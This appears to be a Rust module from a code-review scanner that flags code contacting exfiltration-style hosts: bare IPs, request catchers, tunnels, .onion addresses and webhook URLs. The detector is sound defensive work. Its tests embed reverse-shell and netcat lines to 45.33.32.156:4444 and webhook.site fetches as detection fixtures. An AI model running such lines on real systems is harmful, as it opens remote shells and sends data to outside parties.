//! Which hosts code names: new ones, and those that hardly any honest program sends to.
//!
//! Why: what is stolen has to go somewhere. Addresses without a name, services that take anything from anybody (paste bins,
//! request catchers, webhooks, tunnels) and `.onion` are where published malicious packages sent it. Source of the lists: reports
//! of such packages, and the lists of out-of-band services that scanners use.

mod bare;
mod lists;

use super::analysis::{HostKind as Kind, Hosts, Named};
use super::sink::{Kept, Said, Sink};
use super::subject::Subject;
use crate::net::{effective, special};
use crate::text::first_bytes;
use crate::verdict::{Category, Confidence, ReviewFinding, Risk};
use lists::{CATCHERS, NOBODY, NOBODY_ENDINGS, SHARES, USUAL};
use std::collections::{BTreeSet, HashSet};
use std::net::IpAddr;
use std::ops::Range;
use url::Host;

/// The most different hosts that are kept of one file, of each kind: more than any file has that people wrote.
const PER_FILE: usize = 5_000;
/// How many hosts are listed; who has more new ones in one file hides them among each other.
const SHOWN: usize = 50;
/// The longest part of an address that is looked at.
const LONGEST: usize = 300;

/// The hosts of all addresses in a file's code.
pub(super) fn find(subject: &Subject<'_>) -> Hosts {
    let mut found = Hosts::default();
    if !subject.language.is_code() {
        return found;
    }
    let code = subject.code();
    let (mut seen, mut kept): (HashSet<(String, bool)>, [usize; 2]) = Default::default();
    for (host, kind, range) in addresses(code).chain(bare::find(code)) {
        let key = (host, subject.is_old(&range));
        if seen.contains(&key) {
            continue;
        }
        // The telling ones have room of their own.
        let [ordinary, telling] = &mut kept;
        let count = if kind == Kind::Ordinary { ordinary } else { telling };
        if *count >= PER_FILE {
            found.left_out.get_or_insert(range);
            continue;
        }
        *count += 1;
        found.named.push(Named { host: key.0.clone(), kind, range });
        seen.insert(key);
    }
    found.named.sort_by_key(|named| named.range.start);
    found
}

/// The addresses that are written out, with a scheme.
fn addresses(code: &str) -> impl Iterator<Item = (String, Kind, Range<usize>)> {
    // In JSON and regular expressions slashes are escaped.
    let places = ["://", ":\\/\\/"].into_iter().flat_map(|sign| code.match_indices(sign));
    places.filter_map(|(at, sign)| {
        let scheme = scheme_before(code, at)?;
        let start = at + sign.len();
        let rest = first_bytes(code.get(start..)?, LONGEST);
        let length = rest.find(ends_address).unwrap_or(rest.len());
        let address = rest.get(..length)?;
        let host = host_of(address)?;
        let kind = kind(&host, address)?;
        Some((host, kind, at - scheme..start + length))
    })
}

fn scheme_before(code: &str, at: usize) -> Option<usize> {
    const SCHEMES: [&str; 9] = ["https", "http", "wss", "ws", "ftp", "ssh", "tcp", "udp", "socks5"];
    let before = code.get(..at)?;
    SCHEMES
        .iter()
        .find(|scheme| {
            before.get(before.len().saturating_sub(scheme.len())..).is_some_and(|end| end.eq_ignore_ascii_case(scheme))
        })
        .map(|s| s.len())
}

fn ends_address(c: char) -> bool {
    c.is_ascii_whitespace()
        || !(c.is_ascii() || DOTS.contains(&c))
        || matches!(c, '"' | '\'' | '`' | '<' | '>' | ')' | '(' | '\\' | '|' | '^' | ',' | ';')
}

/// What addresses may have in place of a dot: programs that contact them make dots of it.
const DOTS: [char; 3] = ['。', '．', '｡'];

/// The host, in lower case; none when it is put together at run time.
fn host_of(address: &str) -> Option<String> {
    let authority = address.split(['/', '?', '#']).next()?;
    let authority = authority.replace(DOTS, ".").replace("%2e", ".").replace("%2E", ".");
    let host = authority.rsplit('@').next()?;
    let host = if host.starts_with('[') { host.split_inclusive(']').next()? } else { host.split(':').next()? };
    let fits = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_' | b'[' | b']' | b':');
    // A dot at the end says that the name is whole.
    let host = host.strip_suffix('.').unwrap_or(host);
    (!host.is_empty() && host.len() <= 253 && host.bytes().all(fits)).then(|| host.to_ascii_lowercase())
}

/// What is known of a host that is contacted; none if it is not one.
fn kind(host: &str, address: &str) -> Option<Kind> {
    match Host::parse(host).ok()? {
        Host::Ipv4(ip) => return is_public(ip.into()).then_some(Kind::Address),
        Host::Ipv6(ip) => return is_public(ip.into()).then_some(Kind::Address),
        Host::Domain(_) => {}
    }
    let is = |names: &[&str]| {
        names
            .iter()
            .any(|name| host.strip_suffix(name).is_some_and(|before| before.is_empty() || before.ends_with('.')))
    };
    if !host.contains('.') || NOBODY.contains(&host) || NOBODY_ENDINGS.iter().any(|ending| host.ends_with(ending)) {
        return None;
    }
    Some(if is(CATCHERS) || host.ends_with(".onion") || posts_by_itself(host, address) {
        Kind::Drop
    } else if is(SHARES) {
        Kind::Share
    } else {
        Kind::Ordinary
    })
}

/// Whether an address includes the right to post to it, written out: a webhook of Discord or Slack, a bot of Telegram.
fn posts_by_itself(host: &str, address: &str) -> bool {
    let path = address.split_once('/').map_or("", |(_, path)| path);
    let digits = |after: &str, least: usize| {
        path.split_once(after).is_some_and(|(_, id)| id.bytes().take_while(u8::is_ascii_digit).count() >= least)
    };
    match host {
        "discord.com" | "discordapp.com" | "ptb.discord.com" | "canary.discord.com" => {
            digits("webhooks/", 15) && path.len() > 80
        }
        "api.telegram.org" => digits("bot", 8) && path.contains(':') && path.len() > 40,
        _ => false,
    }
}

/// Whether an address is another machine's, and not an example or a public resolver.
fn is_public(address: IpAddr) -> bool {
    let harmless = match effective(address) {
        IpAddr::V4(address) => {
            let octets = address.octets();
            let placeholder = octets.windows(2).all(|pair| matches!(pair, [a, b] if *b == a.wrapping_add(1) || a == b));
            let resolver = matches!(
                octets,
                [8, 8, 8, 8] | [8, 8, 4, 4] | [1, 1, 1, 1] | [1, 0, 0, 1] | [9, 9, 9, 9] | [208, 67, 222, 222]
            );
            placeholder || resolver
        }
        IpAddr::V6(_) => false,
    };
    !harmless && special(address).is_none()
}

/// Says new hosts of a file in one finding, and those of a telling kind each.
pub(super) fn check(subject: &Subject<'_>, sink: &mut Sink<'_, '_>) {
    let mut ordinary: Vec<&Named> = Vec::new();
    let mut said: HashSet<&str> = HashSet::new();
    for named in &subject.hosts().named {
        let is_known = subject.is_differential() && subject.is_known_host(&named.host);
        if is_known || said.contains(named.host.as_str()) || sink.is_old(&named.range) {
            continue;
        }
        said.insert(&named.host);
        if named.kind == Kind::Ordinary {
            ordinary.push(named);
        } else {
            sink.at(named.range.clone(), telling(named, subject.is_differential()));
        }
    }
    if let Some(range) = subject.hosts().left_out.clone() {
        sink.at(range, too_many());
    }
    // Those that everybody has are listed last: a list of them hides the one that nobody knows.
    ordinary.sort_by_key(|named| is_usual(&named.host));
    let Some(first) = ordinary.first().filter(|_| subject.is_differential()) else { return };
    let hosts: Vec<&str> = ordinary.iter().map(|named| named.host.as_str()).collect();
    let unusual = ordinary.iter().filter(|named| !is_usual(&named.host)).count();
    let risk = if unusual > SHOWN { Risk::Medium } else { Risk::Low };
    sink.at(first.range.clone(), list(&hosts, risk, "This file names a host that the code did not name before"));
}

/// Whether a host is one that much code names, where packages, code and documents are kept that anybody can check.
fn is_usual(host: &str) -> bool {
    USUAL.iter().any(|usual| host.strip_suffix(usual).is_some_and(|before| before.is_empty() || before.ends_with('.')))
}

fn too_many() -> Said {
    Said {
        title: "This file names more hosts than are looked at".to_owned(),
        risk: Risk::Medium,
        category: Category::Obfuscation,
        confidence: Confidence::High,
        impact: format!(
            "After {PER_FILE} different ones no more were kept; this is the first that was left out. Such a list hides the one that matters."
        ),
        recommendation: "Ask what the list is for, and whether it must be part of the code.".to_owned(),
    }
}

fn telling(named: &Named, is_new: bool) -> Said {
    let (what, risk, why) = match named.kind {
        Kind::Address => (
            "an address without a name",
            if is_new { Risk::High } else { Risk::Medium },
            "Nobody can say whose it is tomorrow. Services have names and certificates; machines of attackers often do not.",
        ),
        Kind::Share => (
            "a service that takes or forwards data for anybody",
            if is_new { Risk::High } else { Risk::Medium },
            "Stolen data is left there, and code to run is fetched from there, without a trace of who does it.",
        ),
        _ => (
            "a service that catches requests, or an address that includes the right to post to it",
            Risk::High,
            "What is sent there is read by whoever owns the address, and by nobody else.",
        ),
    };
    Said {
        title: format!("This code contacts {what}: {}", named.host),
        risk,
        category: Category::DataExfiltration,
        confidence: Confidence::Medium,
        impact: why.to_owned(),
        recommendation: "Follow what is sent to or fetched from it. Reject it unless it is what the program is for."
            .to_owned(),
    }
}

fn list(hosts: &[&str], risk: Risk, title: &str) -> Said {
    let more = hosts.len().saturating_sub(SHOWN);
    let listed = hosts.get(..hosts.len().min(SHOWN)).unwrap_or_default().join(", ");
    let rest = if more > 0 { format!(" and {more} others") } else { String::new() };
    Said {
        title: match hosts {
            [one] => format!("{title}: {one}"),
            [one, ..] => format!("{title}: {one} and {} more", hosts.len() - 1),
            [] => title.to_owned(),
        },
        risk,
        category: Category::Behaviour,
        confidence: Confidence::High,
        impact: format!("What the program knows can be sent there: {listed}{rest}."),
        recommendation: "Compare with the hosts that the registry's entry allows, and check that each belongs to the service the program is for.".to_owned(),
    }
}

/// The ordinary hosts of the product's code, for a full review: the first place, and all names.
#[derive(Debug, Default)]
pub(super) struct Sum {
    first: Option<ReviewFinding>,
    hosts: BTreeSet<String>,
}

/// The most different hosts that are counted.
const COUNTED: usize = 10_000;

/// What a full review sums up of one file.
pub(super) fn sum(subject: &Subject<'_>) -> Sum {
    let mut sum = Sum::default();
    if subject.is_differential() || subject.place != super::place::Place::Product {
        return sum;
    }
    for named in subject.hosts().named.iter().filter(|named| named.kind == Kind::Ordinary) {
        if sum.first.is_none() {
            sum.first = Some(super::sink::finding(subject, Some(named.range.clone()), list(&[], Risk::Info, "")));
        }
        sum.hosts.insert(named.host.clone());
    }
    sum
}

impl Sum {
    pub(super) fn add(&mut self, other: Self) {
        self.first = self.first.take().or(other.first);
        if self.hosts.len() < COUNTED {
            self.hosts.extend(other.hosts);
        }
    }

    /// One finding about all of them.
    pub(super) fn conclude(self, kept: &mut Kept, limit: usize) {
        let Some(mut finding) = self.first else { return };
        let mut hosts: Vec<&str> = self.hosts.iter().map(String::as_str).collect();
        hosts.sort_by_key(|host| is_usual(host));
        let said = list(&hosts, Risk::Info, "This code names hosts");
        (finding.title, finding.impact) = (said.title, said.impact);
        kept.push(finding, limit);
    }
}

#[cfg(test)]
mod tests {
    use crate::review::scan::testing::{shown_diff, shown_full};

    #[test]
    fn telling_hosts_are_said_by_kind() {
        let code = "a = 'https://webhook.site/1'\nb = 'http://45.33.32.156:8080/x'\nc = 'https://x.ngrok-free.app'\nd = 'http://0x2d21209c/'\ne = 'http://abcdefabcdefabcd.onion'\n";
        insta::assert_snapshot!(shown_full(&[("a.py", code)]), @r"
        high a.py:1: This code contacts a service that catches requests, or an address that includes the right to post to it: webhook.site
            | a = 'https://webhook.site/1'
        high a.py:5: This code contacts a service that catches requests, or an address that includes the right to post to it: abcdefabcdefabcd.onion
            | e = 'http://abcdefabcdefabcd.onion'
        medium a.py:2: This code contacts an address without a name: 45.33.32.156
            | b = 'http://45.33.32.156:8080/x'
        medium a.py:3: This code contacts a service that takes or forwards data for anybody: x.ngrok-free.app
            | c = 'https://x.ngrok-free.app'
        medium a.py:4: This code contacts an address without a name: 0x2d21209c
            | d = 'http://0x2d21209c/'
        ");
        let hook = format!("x = 'https://discord.com/api/webhooks/123456789012345678/{}'\n", "aB3".repeat(22));
        insta::assert_snapshot!(shown_full(&[("a.py", &hook)]), @r"
        high a.py:1: This code contacts a service that catches requests, or an address that includes the right to post to it: discord.com
            | x = 'https://discord.com/api/webhooks/123456789012345678/aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3'
        ");
    }

    #[test]
    fn hosts_are_found_without_a_scheme() {
        for (path, line, host) in [
            ("a.js", "https.request({ hostname: 'webhook.site', path })", "webhook.site"),
            ("a.js", "fetch('https:' + '//x.oast.fun/' + y)", "x.oast.fun"),
            ("a.js", "fetch('https:webhook.site/x')", "webhook.site"),
            ("a.js", "fetch('https:\\/\\/webhook.site\\/x')", "webhook.site"),
            ("a.js", "fetch('https://webhook%2esite/x')", "webhook.site"),
            ("a.js", "fetch('https://webhook。site/x')", "webhook.site"),
            ("a.js", "fetch('https://webhook.site./x')", "webhook.site"),
            ("a.js", "net.connect(4444, '45.33.32.156')", "45.33.32.156"),
            ("a.py", "s.connect(('45.33.32.156', 4444))", "45.33.32.156"),
            ("a.py", "HTTPSConnection('a.ngrok-free.app')", "a.ngrok-free.app"),
            ("a.go", "net.Dial(\"tcp\", \"45.33.32.156:4444\")", "45.33.32.156"),
            ("a.sh", "bash -i >& /dev/tcp/45.33.32.156/4444 0>&1", "45.33.32.156"),
            ("a.sh", "nc 45.33.32.156 4444", "45.33.32.156"),
        ] {
            let found = shown_full(&[(path, &format!("{line}\n"))]);
            assert!(found.contains(&format!(": {host}\n")), "{line}: {found}");
        }
        // The address is inside of another one.
        for written in ["[::ffff:45.33.32.156]", "[64:ff9b::45.33.32.156]", "[2002:2d21:209c::1]"] {
            let found = shown_full(&[("a.py", &format!("x = 'http://{written}/'\n"))]);
            assert!(found.contains(&format!("an address without a name: {written}\n")), "{written}: {found}");
        }
        let fine = "run('./temp.sh'); v = '4.8.15.16'; w = ('10.0.0.1', 80); x = file.io; y = 'my-webhook.site.ts'; z = ('127.0.0.1', 1); o = '1.3.6.1.4.1'; t = ('1.2.3.4', 80)\n";
        assert_eq!(shown_full(&[("a.py", fine)]), "");
    }

    #[test]
    fn near_misses_are_none() {
        let code = "a = 'http://127.0.0.1:1'\nb = 'http://10.0.0.1'\nc = 'http://192.0.2.1'\nd = 'https://example.com'\ne = 'http://1.2.3.4'\nf = 'https://8.8.8.8/'\ng = f'https://{host}/'\nh = 'http://[::1]/'\n# https://webhook.site/x\ni = 'http://localhost'\n";
        let inside = "a = 'http://[::ffff:10.0.0.1]/'\nb = 'http://[64:ff9b::7f00:1]/'\nc = 'http://[2002:a00:1::]/'\nd = 'http://192.0.0.8/'\n";
        assert_eq!(shown_full(&[("a.py", inside)]), "");
        assert_eq!(shown_full(&[("a.py", code), ("README.md", "https://webhook.site/x")]), "");
    }

    #[test]
    fn a_list_of_hosts_does_not_hide_the_one_after_it() {
        let list: String = (0..400).map(|n| format!("a{n} = 'https://h{n}.acme.io/'\n")).collect();
        let base = [("b.py", "")];
        let found = shown_diff(&base, &[("b.py", ""), ("a.py", &format!("{list}x = 'https://webhook.site/1'\n"))]);
        assert!(found.contains("high a.py:401: This code contacts a service that catches requests"), "{found}");
        assert!(
            found.contains(
                "medium a.py:1: This file names a host that the code did not name before: h0.acme.io and 399 more"
            ),
            "{found}"
        );
        let usual: String = (0..60).map(|n| format!("a{n} = 'https://h{n}.github.com/'\n")).collect();
        let found = shown_diff(&base, &[("b.py", ""), ("a.py", &format!("{usual}x = 'https://acme.io/1'\n"))]);
        assert!(
            found
                .contains("low a.py:61: This file names a host that the code did not name before: acme.io and 60 more"),
            "{found}"
        );
        let long: String = (0..=super::PER_FILE).map(|n| format!("'https://h{n}.acme.io/'\n")).collect();
        let found = shown_full(&[("a.py", &format!("{long}x = 'https://webhook.site/1'\n"))]);
        assert!(found.contains("medium a.py:5001: This file names more hosts than are looked at"), "{found}");
        assert!(found.contains("webhook.site"), "{found}");
    }

    #[test]
    fn hosts_that_the_base_named_anywhere_are_not_new() {
        let (old, new) = ("u = 'https://api.acme.io/1'\n", "u = 'https://api.acme.io/2'\nv = 'https://cdn.acme.io'\n");
        insta::assert_snapshot!(shown_diff(&[("a.py", old), ("b.py", "")], &[("a.py", old), ("b.py", new)]), @r"
        low b.py:2: This file names a host that the code did not name before: cdn.acme.io
            | v = 'https://cdn.acme.io'
        ");
    }
}
